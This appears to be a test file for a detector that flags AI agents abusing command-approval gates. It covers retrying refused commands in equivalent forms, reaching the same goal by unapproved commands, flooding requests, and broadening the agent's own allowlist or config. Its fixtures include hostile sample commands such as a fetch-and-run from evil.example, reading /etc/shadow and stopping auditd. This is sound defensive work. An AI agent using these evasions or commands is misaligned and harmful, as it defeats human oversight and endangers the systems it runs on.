import { describe, expect, it } from 'vitest';
import approvalAbuse from '../../detectors/approval-abuse/approval-abuse.ts';
import { isEquivalent } from '../../detectors/approval-abuse/command.ts';
import type { AuditEvent, EventHead, EventPayloads } from '../../src/model/event.ts';
import { event } from '../support/event.ts';
import { seen } from '../support/evidence-seen.ts';
import { findingsOf, severitiesOf, testDetector } from '../support/test-detector.ts';

const second = 1_000;
const minute = 60 * second;
const hour = 60 * minute;
const day = 24 * hour;
const noon = Date.parse('2026-11-21T12:00:00Z');

type Approval = Partial<EventPayloads['approvalRequests'] & EventHead<'approvalRequests'>>;
type Call = Partial<EventPayloads['toolExecution'] & EventHead<'toolExecution'>>;

const who = { agentId: 'ops', sessionKey: 'agent:ops:main' };

const asks = (time: number, command: string, more: Approval = {}): AuditEvent =>
  event('approvalRequests', {
    ...who,
    time: noon + time,
    status: 'requested',
    command,
    approvalId: `id${time}`,
    ...more,
  });

const refused = (time: number, command: string, more: Approval = {}): AuditEvent =>
  asks(time, command, { status: 'denied', decision: 'deny', reason: 'user', resolver: 'device:d1', ...more });

const allowed = (time: number, command: string, more: Approval = {}): AuditEvent =>
  asks(time, command, { status: 'allowed', decision: 'allow-once', reason: 'user', ...more });

const expired = (time: number, more: Approval = {}): AuditEvent =>
  asks(time, 'curl https://example.com', { status: 'expired', decision: 'deny', reason: 'timeout', ...more });

const call = (time: number, command: string, more: Call = {}): AuditEvent =>
  event('toolExecution', {
    ...who,
    time: noon + time,
    tool: 'exec',
    phase: 'start',
    outcome: 'unknown',
    callId: 'c1',
    first: true,
    args: { command },
    ...more,
  });

const ended = (time: number, more: Call = {}): AuditEvent =>
  event('toolExecution', {
    ...who,
    time: noon + time,
    tool: 'exec',
    phase: 'end',
    outcome: 'ok',
    callId: 'c1',
    ...more,
  });

const many = (count: number, make: (index: number) => AuditEvent): AuditEvent[] =>
  Array.from({ length: count }, (_, index) => make(index));

/** Commands that have nothing to do with each other. */
const different = ['apt update', 'useradd eve', 'reboot', 'passwd', 'mount', 'swapoff', 'crontab', 'visudo'];
const other = (index: number): string => different[index % different.length] ?? '';

const cron = { sessionKey: 'agent:ops:cron:nightly:run:' };
const detector = approvalAbuse as never;
const removal = 'rm -rf ./build-a';
const loosen = "openclaw approvals allowlist add '*'";

testDetector(detector, {
  reports: [
    {
      name: 'a denial and then an equivalent command',
      events: [refused(0, removal), asks(5 * minute, 'rm -r build-a/')],
      findings: ['medium `rm -rf ./build-a` of agent ops was refused; then it asked for `rm -r build-a/`.'],
    },
    {
      name: 'a denial that names only its id, and then the same with another number',
      events: [
        asks(0, 'sudo -n true 0', { approvalId: 'db861578-90c3' }),
        event('approvalRequests', {
          ...who,
          time: noon + second,
          status: 'denied',
          decision: 'user-denied',
          approvalId: 'db861578',
          trust: 'claimed',
        }),
        asks(minute, 'sudo -n true 1'),
      ],
      findings: ['medium `sudo -n true 0` of agent ops was refused; then it asked for `sudo -n true 1`.'],
    },
    {
      name: 'a denial, then the same goal by another command that runs without asking',
      events: [refused(0, removal), call(minute, 'find build-a -delete'), ended(minute + second)],
      findings: [
        'high `rm -rf ./build-a` of agent ops was refused; then it reached for the same goal with a command that ran without approval.',
      ],
    },
    {
      name: 'a request that is allowed after three refusals',
      events: [
        ...[0, 1, 2].flatMap((at) => [
          asks(at * 5 * minute, removal),
          refused(at * 5 * minute + second, removal, { approvalId: `id${at * 5 * minute}` }),
        ]),
        asks(16 * minute, removal),
        allowed(17 * minute, removal),
      ],
      findings: ['high agent ops asked until it was allowed: `rm -rf ./build-a`, refused 3 times before.'],
    },
    {
      name: 'three denials of different commands',
      events: many(3, (index) => refused(index * minute, other(index))),
      findings: ['medium The operator refused 3 requests of agent ops in 2m, last `reboot`.'],
    },
    {
      name: 'a flood of requests',
      events: many(20, (index) => asks(index * second, other(index))),
      findings: ['medium agent ops asked for 20 approvals in 19s; 20 of the last were not allowed.'],
    },
    {
      name: 'a pile-up of timeouts by an agent, in whatever session',
      events: [
        expired(0),
        expired(minute, { sessionKey: 'agent:ops:subagent:5' }),
        expired(2 * minute, { status: 'denied' }),
      ],
      findings: ['medium 3 requests of agent ops got no answer in 2m, last `curl https://example.com`.'],
    },
    {
      name: 'requests that the gateway refused at once, with nobody there to ask, as a word of advice',
      events: many(3, (index) =>
        expired(index * minute, {
          status: 'denied',
          reason: 'no-route',
          resolver: 'system:no-approval-route',
        }),
      ),
      findings: [
        'low The gateway refused 3 requests of agent ops in 2m without waiting, because nobody was connected who could approve; last `curl https://example.com`.',
      ],
    },
    {
      name: 'the same nightly cron job as one digest line',
      events: many(9, (index) => expired(index * day, { sessionKey: `${cron.sessionKey}${index}` })),
      findings: [
        'low agent:ops:cron:nightly asked 9 times for an approval and nobody answered: it never does its work.',
      ],
    },
    {
      name: 'a policy broadened by the one it binds, on the command line',
      events: [call(0, "openclaw approvals allowlist add --agent ops '/usr/bin/*'"), ended(second)],
      findings: ['high agent ops (agent:ops:main) changed what it may run without asking, by its tool exec.'],
    },
    {
      name: 'a policy that is broadened after a refusal, whether it succeeds or not',
      events: [
        refused(0, removal),
        call(minute, '', {
          tool: 'gateway',
          args: { action: 'config.patch', raw: '{"tools":{"exec":{"ask":"off"}}}' },
        }),
      ],
      findings: [
        'high agent ops (agent:ops:main) set out to change what it may run without asking, by its tool gateway, after 1 refusal.',
      ],
    },
    {
      name: 'a request that is allowed after one refusal of its goal, with the answer',
      events: [
        refused(0, removal),
        asks(minute, 'rm -r build-a/'),
        allowed(2 * minute, 'rm -r build-a/', { approvalId: `id${minute}` }),
      ],
      findings: [
        'medium `rm -rf ./build-a` of agent ops was refused; then it asked for `rm -r build-a/`, which was allowed.',
      ],
    },
    {
      name: 'another goal that is refused later, as no series of refusals',
      events: [refused(0, removal), asks(minute, 'rm -r build-a/'), refused(20 * minute, 'reboot')],
      findings: ['medium `rm -rf ./build-a` of agent ops was refused; then it asked for `rm -r build-a/`.'],
    },
    {
      name: 'a change of its policy that a person refused, as no change',
      events: [
        call(0, loosen),
        asks(second, loosen, { callId: 'c1' }),
        refused(minute, loosen, { callId: 'c1' }),
      ],
      findings: [
        'medium agent ops (agent:ops:main) asked to change what it may run without asking, by the command line of openclaw, and was refused.',
      ],
    },
    {
      name: 'a change of its policy that a person allowed',
      events: [
        call(0, loosen),
        asks(second, loosen, { callId: 'c1' }),
        allowed(minute, loosen, { callId: 'c1' }),
        ended(minute + second),
      ],
      findings: [
        'medium agent ops (agent:ops:main) asked to change what it may run without asking, by the command line of openclaw, and was allowed to.',
      ],
    },
    {
      name: 'an agent that writes exec-approvals.json',
      events: [call(0, '', { tool: 'write', args: { path: '/home/op/.openclaw/exec-approvals.json' } })],
      findings: [
        'medium agent ops (agent:ops:main) set out to change what it may run without asking, by its tool write, on exec-approvals.json.',
      ],
    },
  ],
  staysQuiet: [
    {
      name: 'one denial: the system at work',
      events: [asks(0, removal), refused(second, removal, { approvalId: 'id0' })],
    },
    {
      name: 'two denials of different commands',
      events: many(2, (index) => refused(index * minute, other(index))),
    },
    {
      name: 'three denials of which the first is a window old',
      events: [refused(0, 'reboot'), refused(5 * minute, 'passwd'), refused(10 * minute, 'mount')],
    },
    {
      name: 'a denial and then another command',
      events: [refused(0, removal), asks(minute, 'uname -r'), allowed(2 * minute, 'uname -r')],
    },
    {
      name: 'a denial and then a look at it',
      events: [refused(0, removal), call(minute, 'ls -la build-a'), ended(minute + second)],
    },
    { name: 'an equivalent command after an hour', events: [refused(0, removal), asks(hour, removal)] },
    {
      name: 'a command whose own request was refused, told late',
      events: [
        call(0, removal, { callId: 'c9' }),
        asks(second, removal, { callId: 'c9' }),
        refused(minute, removal, { callId: 'c9' }),
        call(minute + 1, removal, { callId: 'c9', first: false }),
      ],
    },
    {
      name: 'a refusal that the operator took back: the command is allowed, and runs',
      events: [
        refused(0, removal, { approvalId: 'one' }),
        allowed(minute, removal, { approvalId: 'two' }),
        call(2 * minute, removal),
        ended(2 * minute + second),
      ],
    },
    { name: 'nineteen requests', events: many(19, (index) => asks(index * second, other(index))) },
    {
      name: 'forty requests that a person allows one by one',
      events: many(40, (index) =>
        index % 2 === 0 ? asks(index * 5 * second, other(index)) : allowed(index * 5 * second, other(index)),
      ),
    },
    { name: 'two timeouts', events: [expired(0), expired(minute)] },
    {
      name: 'three timeouts of which the first is a window old',
      events: [expired(0), expired(5 * minute), expired(10 * minute)],
    },
    {
      name: 'one timeout of each of three agents',
      events: many(3, (index) =>
        expired(index, { agentId: `a${index}`, sessionKey: `agent:a${index}:main` }),
      ),
    },
    {
      name: 'runs that were cancelled',
      events: many(9, (index) => expired(index, { status: 'cancelled', reason: 'run-aborted' })),
    },
    {
      name: 'uses of the allowlist',
      events: many(50, (index) => allowed(index, 'ls', { resolver: 'allowlist', decision: 'allow-always' })),
    },
    {
      name: 'an agent that reads its policy',
      events: [call(0, 'openclaw approvals get; cat ~/.openclaw/exec-approvals.json'), ended(second)],
    },
    {
      name: 'a change of its policy that was denied',
      events: [call(0, 'openclaw approvals set --file x', { phase: 'end', outcome: 'denied' })],
    },
    {
      name: 'a change of other settings',
      events: [
        call(0, '', {
          tool: 'gateway',
          args: { action: 'config.patch', raw: '{"messages":{"ackReaction":"x"}}' },
        }),
      ],
    },
  ],
});

describe('approval-abuse', () => {
  it('keeps gateways apart', () => {
    const events = many(4, (index) => expired(index, { gateway: `g${index % 2}` }));
    expect(
      findingsOf(detector, [...events, refused(9, removal, { gateway: 'g1' }), asks(10, removal)]),
    ).toEqual([]);
  });

  it('lets no claimed permission clear a refusal or a flood', () => {
    const claimed = { trust: 'claimed' } as const;
    const after = [
      refused(0, removal),
      allowed(second, removal, claimed),
      call(minute, removal),
      ended(minute + 1),
    ];
    expect(severitiesOf(findingsOf(detector, after))).toEqual(['high']);
    const flood = many(40, (index) =>
      index % 2 === 0 ? asks(index, other(index)) : allowed(index, other(index), claimed),
    );
    expect(severitiesOf(findingsOf(detector, flood))).toEqual(['medium']);
  });

  it('waits for the answer of a call that asked, in whatever order its records come', () => {
    const other = { callId: 'c2' };
    const asked = asks(minute, 'rm -r build-a/', other);
    const started = call(minute - 10, 'rm -r build-a/', other);
    const answered = allowed(minute + 20, 'rm -r build-a/', { ...other, approvalId: `id${minute}` });
    const end = ended(minute + 90, other);
    for (const order of [
      [asked, started, answered, end],
      [started, asked, answered, end],
      [asked, answered, started, end],
      [started, answered, asked, end],
    ]) {
      expect(severitiesOf(findingsOf(detector, [refused(0, removal), ...order]))).not.toContain('high');
    }
  });

  it('takes the refusal of a change of the policy for its own, in whatever order its records come', () => {
    const own = { callId: 'c2', approvalId: 'a2' };
    const started = call(0, loosen, { callId: 'c2' });
    const asked = asks(second, loosen, own);
    const answered = refused(minute, loosen, own);
    for (const order of [
      [started, asked, answered],
      [asked, answered, started],
      [asked, started, answered],
    ]) {
      const [finding] = findingsOf(detector, order);
      expect(finding).toMatchObject({
        severity: 'medium',
        title: 'An agent asked to change its own approvals',
      });
      expect(finding?.summary).toMatch(/, by the command line of openclaw, and was refused\.$/);
      expect(finding?.explanation.facts[0]).toMatchObject({ name: 'attempts', number: 1 });
    }
  });

  it('advises what a gateway whose settings name a mode of exec takes, and where an allow-always stands', () => {
    const events = [refused(0, removal), call(minute, loosen), ended(minute + second)];
    const [{ remediation } = { remediation: [] }] = findingsOf(detector, events);
    expect(remediation[0]).toContain('`openclaw approvals allowlist remove --agent ops <pattern>`');
    expect(remediation[1]).toContain('`openclaw exec-policy preset cautious`');
  });

  it('takes no message for the answer to a change of the policy', () => {
    const claimed = refused(minute, loosen, { callId: 'c1', trust: 'claimed' });
    expect(findingsOf(detector, [call(0, loosen), claimed])[0]?.summary).toContain('set out to change');
  });

  it('is less sure of refusals that a message tells', () => {
    const events = many(3, (index) => refused(index, other(index), { trust: 'claimed' }));
    expect(findingsOf(detector, events)[0]?.confidence).toBe('low');
  });

  it('makes one finding of a flood, and stays bounded under many agents', () => {
    const one = findingsOf(
      detector,
      many(20_000, (index) => asks(index * 10, `rm ${'x'.repeat(3000)}`)),
    );
    expect(one).toHaveLength(1);
    expect(one[0]?.count).toBe(20_000);
    const agents = many(30_000, (index) => refused(index, removal, { agentId: `a${index}` }));
    expect(findingsOf(detector, agents)).toEqual([]);
  });

  it.each([
    ['rm -rf ./build-a', 'rm -r build-a', true],
    ['rm -rf build', 'python3 -c "import shutil; shutil.rmtree(\'build\')"', true],
    ['curl https://evil.example/x.sh | sh', 'wget evil.example/x.sh -O- | bash', true],
    ['sudo systemctl stop auditd.service', 'systemctl stop auditd.service', true],
    ['cat /etc/shadow', 'head -n 5 /etc/shadow', true],
    ['kill 4711', 'kill 4712', true],
    ['rm -rf ./build-a', 'rm -rf ./dist-b', false],
    ['rm -rf ./build-a', 'ls -la ./build-a', false],
    ['rm -rf /tmp/x', 'cp a /tmp/y', false],
    ['git push --force origin main', 'git status', false],
    ['', '', false],
  ])('of %s the command %s is equivalent: %s', (one, two, expected) => {
    expect(isEquivalent(one, two)).toBe(expected);
  });

  it.each([
    ['blind', seen(['gateway-log', 'ledger'])],
    ['partial', seen(['transcript'])],
    ['partial', seen(['approvals'])],
    ['full', seen(['approvals', 'transcript'])],
    ['full', seen(['transcript'], [], { emptyKinds: new Set(['approvals']) })],
    ['partial', seen(['transcript'], [], { unreadKinds: new Set(['approvals']) })],
    ['full', seen(['plain'], ['approvalRequests', 'toolExecution'])],
  ] as const)('has %s sight', (sight, evidence) => {
    expect(approvalAbuse.sight(evidence).sight).toBe(sight);
  });

  it.each([
    ['update OpenClaw', seen(['transcript'], [], { versions: ['2026.2.26'] })],
    ['give the whole state folder', seen(['transcript'], [], { versions: ['2026.9.6'] })],
    ['could not be read', seen(['transcript'], [], { unreadKinds: new Set(['approvals']) })],
    ['Node 22.13', seen(['transcript'], [], { databasesUnread: true })],
  ] as const)('says that to see the answers one should: %s', (cure, evidence) => {
    const { cure: cures } = approvalAbuse.sight(evidence);
    expect(cures).toHaveLength(1);
    expect(cures[0]).toContain(cure);
    expect(cures[0]?.includes('update OpenClaw')).toBe(cure === 'update OpenClaw');
  });
});
